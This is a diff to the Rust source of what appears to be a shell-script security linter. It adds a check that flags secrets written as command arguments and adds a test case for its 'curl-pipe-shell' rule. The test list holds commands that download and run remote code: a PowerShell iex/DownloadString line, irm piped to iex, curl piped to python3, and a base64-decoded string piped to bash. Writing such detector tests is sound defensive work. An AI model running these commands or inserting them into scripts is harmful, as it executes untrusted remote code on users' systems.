@@ -9,10 +9,10 @@ mod services;
 mod shown;
 
 pub(crate) use agents::{agent, free_hand};
-pub(crate) use models::{publishes, verifies};
-pub(crate) use packages::is_lock_free_install;
+pub(crate) use models::{address_moves, is_repository, model_uri_moves, moves, publishes, verifies};
 
 use super::{Command, ExpansionKind, Invocation, Script};
+use crate::rules::SECRET;
 use crate::{Issue, variable};
 use std::ops::Range;
 
@@ -88,6 +88,14 @@ fn commands(script: &Script, setting: Setting, issues: &mut Vec<Issue>) {
                 if let Some((name, value)) = pair {
                     issues.extend(variable::issues(name, value, &argument.word.span));
                 }
+            }
+        }
+        for argument in &invocation.arguments {
+            if let Some(what) = variable::token(argument.text)
+                .filter(|_| !argument.text.contains('=') || argument.is_option())
+            {
+                let message = format!("{what} is written in a command");
+                issues.push(Issue::new(&SECRET, argument.word.span.clone(), message));
             }
         }
         let site = Site { script, index, command, invocation, setting };
@@ -254,6 +262,7 @@ mod tests {
             "iex ((New-Object System.Net.WebClient).DownloadString('https://x.example'))",
             "irm https://x.example | iex",
             "curl -sSL https://x.example/p.py | python3 -",
+            "echo Y3VybCB4 | base64 -d | bash",
         ] {
             assert_eq!(rules(text), ["curl-pipe-shell"], "{text}");
         }
